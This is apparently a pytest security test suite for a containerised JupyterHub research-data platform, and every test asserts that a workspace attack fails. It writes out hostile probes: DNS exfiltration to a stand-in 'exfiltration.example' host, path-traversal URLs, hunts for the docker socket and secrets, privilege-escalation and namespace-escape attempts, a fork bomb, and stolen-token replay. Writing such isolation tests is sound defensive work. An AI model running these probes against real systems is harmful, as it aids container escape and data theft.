"""Attacks that anyone can run from a notebook, each of which must fail."""

from __future__ import annotations

import json
import socket
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Page

from stack.running import Stack, docker

USER, PROJECT = "researcher2", "diabete-idf"
OTHER = "antibio-national"
CONTROL_HOSTS = ("hub", "egress", "proxy", "compute", "guard", "idp", "gateway-control")


@dataclass(frozen=True)
class Inside:
    """A running workspace, and a way to run code in it as its user."""

    stack: Stack

    def run(self, code: str) -> str:
        """Run Python inside and return what it printed."""
        return self.stack.run_in_workspace(USER, PROJECT, code).ok()

    def fetch(self, method: str, address: str, headers: dict[str, str] | None = None, body: object = None) -> int:
        """Ask for an address from inside; returns the HTTP status, or 0 when nothing answers."""
        code = f"""
import json, os, urllib.error, urllib.request
headers = {{k: v.replace("$TOKEN", os.environ["JUPYTERHUB_API_TOKEN"]) for k, v in {headers or {}!r}.items()}}
body = {json.dumps(body)!r}
request = urllib.request.Request({address!r}.replace("$GATEWAY", os.environ["JUPYTERHUB_API_URL"].split("/hub/")[0]),
    data=None if body == "null" else body.encode(), method={method!r}, headers=headers)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
try:
    print(opener.open(request, timeout=4).status)
except urllib.error.HTTPError as error:
    print(error.code)
except OSError:
    print(0)
"""
        return int(self.run(code).split()[-1])

    def connects(self, host: str, port: int) -> bool:
        """Say whether a TCP connection from inside succeeds."""
        code = f"""
import socket
try:
    socket.create_connection(({host!r}, {port}), timeout=3).close()
    print("connected")
except OSError as error:
    print("failed", type(error).__name__)
"""
        return self.run(code).startswith("connected")


@pytest.fixture
def inside(stack: Stack, request: pytest.FixtureRequest) -> Inside:
    """Two running workspaces of one person; the attacks run in the first."""
    names = [f"{stack.instance}-ws-{USER}--{project}" for project in (PROJECT, OTHER)]
    if not all(docker("inspect", "--format", "{{.State.Running}}", name).output.strip() == "true" for name in names):
        login: Callable[[str], Page] = request.getfixturevalue("login")
        start_workspace: Callable[[Page, str, str], None] = request.getfixturevalue("start_workspace")
        page = login(USER)
        start_workspace(page, USER, PROJECT)
        start_workspace(page, USER, OTHER)
    return Inside(stack)


@pytest.fixture
def listener() -> Iterator[tuple[str, int]]:
    """A service of the host, on every address it has, that counts as reached if it answers."""
    name = f"ecluse-test-target-{uuid.uuid4().hex[:8]}"
    docker("network", "create", name).ok()
    address = docker("network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", name).ok().strip()
    server = socket.create_server((address, 0))
    port = server.getsockname()[1]

    def answer() -> None:
        while True:
            try:
                server.accept()[0].close()
            except OSError:
                return

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    # The target must be reachable from where it should be, or the attack below would fail for the wrong reason.
    socket.create_connection((address, port), timeout=3).close()
    yield address, port
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join(timeout=5)
    docker("network", "rm", name).ok()


def test_the_host_is_out_of_reach(inside: Inside, listener: tuple[str, int]) -> None:
    """A service of the host, listening for containers, does not hear the workspace."""
    assert not inside.connects(*listener)


def test_the_first_address_of_its_own_network_is_nobody(inside: Inside) -> None:
    """The session network gives the host no address: its usual gateway answers on no port."""
    code = """
import os, socket, urllib.parse
gateway = urllib.parse.urlsplit(os.environ["JUPYTERHUB_API_URL"]).hostname
head, _, last = gateway.rpartition(".")
for port in (22, 53, 80, 2375, 8000, 8081):
    try:
        socket.create_connection((f"{head}.{int(last) - 1}", port), timeout=1).close()
        print("reached", port)
    except OSError:
        pass
"""
    assert "reached" not in inside.run(code)


def test_another_workspace_is_out_of_reach(inside: Inside) -> None:
    """Not even another workspace of the same person answers, by name or by address."""
    name = f"{inside.stack.instance}-ws-{USER}--{OTHER}"
    template = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}"
    address = docker("inspect", "--format", template, name).ok().strip()
    assert address
    assert not inside.connects(address, 8888)
    assert not inside.connects(name, 8888)


def test_no_service_of_the_control_zone_resolves(inside: Inside) -> None:
    """Names of the platform's own services mean nothing in a workspace."""
    code = f"""
import socket
for name in {CONTROL_HOSTS!r}:
    try:
        print("resolved", name, socket.gethostbyname(name))
    except OSError:
        pass
"""
    assert "resolved" not in inside.run(code)


def test_no_name_leaves_by_dns(inside: Inside) -> None:
    """A look-up of any name fails, and quickly: there is no resolver that would carry it out."""
    code = """
import socket, time
began = time.monotonic()
try:
    print("resolved", socket.gethostbyname("secret-data.exfiltration.example"))
except OSError:
    print("failed")
print("slow" if time.monotonic() - began > 15 else "quick")
"""
    assert inside.run(code).split() == ["failed", "quick"]


@pytest.mark.parametrize(
    "path",
    [
        "/hub/login",
        "/hub/",
        "/hub/home",
        "/hub/admin",
        "/hub/api/users",
        "/hub/api/services",
        "/hub/api/proxy",
        "/hub/api/../login",
        "/hub//login",
        "/hub/api/%2e%2e/login",
        "/services/egress/",
        "/egress/api/../review",
        "/egress/internal/audit",
        "/user/researcher1/diabete-idf/api/contents",
        "/ecluse/health",
        "/",
    ],
)
def test_the_gateway_carries_no_page_of_the_hub(inside: Inside, path: str) -> None:
    """From inside, only the calls that a workspace needs exist; everything else is forbidden."""
    assert inside.fetch("GET", f"$GATEWAY{path}", {"Authorization": "token $TOKEN"}) in {400, 403, 404}


def test_the_calls_that_a_workspace_needs_do_work(inside: Inside) -> None:
    """The same client, the same token: what is allowed answers, so the refusals above are refusals."""
    assert inside.fetch("GET", "$GATEWAY/hub/api/user", {"Authorization": "token $TOKEN"}) == 200
    assert inside.fetch("GET", "$GATEWAY/egress/api/v1/rules", {"Authorization": "token $TOKEN"}) == 200


def test_the_browser_door_of_the_gateway_is_closed_from_inside(inside: Inside) -> None:
    """The port that serves browsers does not exist on a session network."""
    code = """
import os, urllib.parse
print(urllib.parse.urlsplit(os.environ["JUPYTERHUB_API_URL"]).hostname)
"""
    assert not inside.connects(inside.run(code).strip(), 8500)


def test_no_engine_socket_and_no_secret_is_mounted(inside: Inside) -> None:
    """Neither the engine's socket, nor the guard's, nor any secret of a service is a file in the workspace."""
    code = """
import os, stat
found = []
for root, dirs, files in os.walk("/", followlinks=False):
    if root.startswith(("/proc", "/sys")):
        dirs[:] = []
        continue
    for name in files:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(root, name)).st_mode) and "docker" in name:
                found.append(name)
        except OSError:
            pass
found += [p for p in ("/run/secrets", "/srv/state", "/srv/extracts", "/etc/ecluse") if os.path.exists(p)]
print(found)
"""
    assert inside.run(code).strip() == "[]"


@pytest.mark.parametrize("place", ["/data", "/data/ER_PRS_F", "/", "/etc", "/opt/venv", "/usr/local/bin", "/var"])
def test_data_and_system_cannot_be_written(inside: Inside, place: str) -> None:
    """The extract and the root are read-only; home and /tmp are not, so that work is possible."""
    code = f"""
import os
for place in ({place!r}, os.environ["HOME"], "/tmp"):
    try:
        open(os.path.join(place, "written"), "w").write("x")
        print("written")
    except OSError:
        print("refused")
"""
    assert inside.run(code).split() == ["refused", "written", "written"]


def test_privileges_cannot_be_raised(inside: Inside) -> None:
    """No capability, no new privilege, a seccomp filter, no other user id, no raw socket, no mount, no namespace."""
    code = """
import ctypes, os, socket
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
print({k: status[k].strip() for k in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Uid")})
def attempt(name, action):
    try:
        action()
        print("DONE", name)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
def call(result):
    if result != 0:
        raise OSError(ctypes.get_errno())
attempt("setuid", lambda: os.setuid(0))
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("mount", lambda: call(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)))
attempt("user namespace", lambda: call(libc.unshare(0x10000000)))
attempt("network namespace", lambda: call(libc.unshare(0x40000000)))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("device", lambda: os.mknod("/tmp/device", 0o60600, os.makedev(8, 0)))
"""
    said = inside.run(code)
    assert "DONE" not in said
    zero = "0" * 16
    for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
        assert f"'{name}': '{zero}'" in said
    assert "'NoNewPrivs': '1'" in said
    assert "'Seccomp': '2'" in said
    assert "'Uid': '1000\\t1000\\t1000\\t1000'" in said


def test_no_program_of_the_image_raises_privileges(inside: Inside) -> None:
    """No set-uid or set-gid program, which no-new-privileges would defuse, is there to try."""
    code = """
import os, stat
for root, dirs, files in os.walk("/", followlinks=False):
    if root.startswith(("/proc", "/sys", "/data")):
        dirs[:] = []
        continue
    for name in files:
        try:
            mode = os.lstat(os.path.join(root, name)).st_mode
        except OSError:
            continue
        if stat.S_ISREG(mode) and mode & stat.S_ISUID:
            print(os.path.join(root, name))
"""
    assert inside.run(code).strip() == ""


def test_a_fork_bomb_meets_a_limit(inside: Inside) -> None:
    """The number of processes is bounded by policy, and the workspace lives on."""
    code = """
import os, signal
children = []
try:
    for _ in range(2000):
        pid = os.fork()
        if pid == 0:
            signal.pause()
        children.append(pid)
    print("unbounded")
except OSError:
    print("bounded")
finally:
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
"""
    assert inside.run(code).strip() == "bounded"
    assert inside.run("print('alive')").strip() == "alive"


def test_its_token_cannot_review(inside: Inside) -> None:
    """A workspace's token opens no page and no act of stewards, and cannot make another token."""
    headers = {"Authorization": "token $TOKEN", "Content-Type": "application/json"}
    assert inside.fetch("GET", "$GATEWAY/egress/review", headers) in {403, 404}
    assert inside.fetch("POST", f"$GATEWAY/hub/api/users/{USER}/tokens", headers, {}) in {403, 404}
    token = inside.run("import os; print(os.environ['JUPYTERHUB_API_TOKEN'])").strip()
    code = f"""
import urllib.error, urllib.request
for path in ("/services/egress/review", "/services/egress/api/v1/review", "/hub/api/users/{USER}/tokens"):
    base = "http://egress:9100" if path.startswith("/services") else "http://hub:8081"
    making = path.endswith("tokens")
    request = urllib.request.Request(base + path, headers={{"Authorization": "token {token}"}},
                                     method="POST" if making else "GET", data=b"{{}}" if making else None)
    class Stay(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *a): return None
    try:
        print(urllib.request.build_opener(Stay()).open(request, timeout=5).status)
    except urllib.error.HTTPError as error:
        print(error.code)
"""
    # The same token held against the services themselves, as if the gateway were not there.
    statuses = {int(s) for s in inside.stack.run_in_service("gateway", code).ok().split()}
    assert statuses <= {302, 303, 307, 401, 403, 404, 405}


def test_its_token_is_of_no_use_in_another_project(inside: Inside) -> None:
    """A token carried from one project's workspace to the other's is refused there: it names its own workspace."""
    stolen = inside.run("import os; print(os.environ['JUPYTERHUB_API_TOKEN'])").strip()
    code = f"""
import os, urllib.error, urllib.request
request = urllib.request.Request(os.environ["ECLUSE_API"] + "/rules", headers={{"Authorization": "token {stolen}"}})
try:
    print(urllib.request.urlopen(request, timeout=5).status)
except urllib.error.HTTPError as error:
    print(error.code)
"""
    assert inside.stack.run_in_workspace(USER, OTHER, code).ok().strip() == "403"


@pytest.mark.parametrize("project", ["../../etc", "antibio-national", "diabete-idf/../antibio-national", "a" * 400])
def test_a_project_in_the_body_changes_nothing(inside: Inside, project: str) -> None:
    """The project is read from the token; a body that names another one is refused as a whole."""
    body = {
        "title": "Titre",
        "purpose": "But",
        "project": project,
        "items": [{"kind": "query", "name": "t", "sql": "SELECT count(*) AS n FROM IR_BEN_R"}],
    }
    headers = {"Authorization": "token $TOKEN", "Content-Type": "application/json"}
    assert inside.fetch("POST", "$GATEWAY/egress/api/v1/preview", headers, body) in {400, 422}


def test_identifiers_and_dates_of_the_source_are_not_in_the_extract(inside: Inside) -> None:
    """Columns that the permit does not grant are in no file under /data, whatever the views say."""
    code = """
import duckdb, glob
names = set()
for path in glob.glob("/data/**/*.parquet", recursive=True):
    names |= {row[0] for row in duckdb.sql(f"SELECT name FROM parquet_schema('{path}')").fetchall()}
hidden = {"BEN_NIR_ANO", "ASS_NIR_ANO", "BEN_RES_COM", "BEN_NAI_MOI", "BEN_DCD_DTE", "PFS_EXE_NUM", "PFS_PRE_NUM"}
print(sorted(names & hidden), len(names) > 20)
"""
    assert inside.run(code).strip() == "[] True"
